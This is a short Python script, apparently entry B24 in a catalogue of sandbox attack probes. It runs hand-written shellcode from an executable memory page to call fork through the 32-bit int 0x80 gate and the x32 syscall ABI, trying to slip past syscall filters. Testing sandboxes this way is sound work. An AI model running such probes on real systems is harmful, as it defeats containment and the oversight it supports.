# attack: asks the kernel through the doors of other architectures
# catalogue: B24
# %%
import ctypes
import mmap
import platform

if platform.machine() == "x86_64":
    # mov eax, 2 (fork of 32 bits); int 0x80; ret
    code = bytes.fromhex("b802000000cd80c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    child = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if child == 0:
        ctypes.CDLL(None)._exit(0)
    print("answered", child)
    libc = ctypes.CDLL(None)
    print("answered", libc.syscall(0x40000000 + 57))
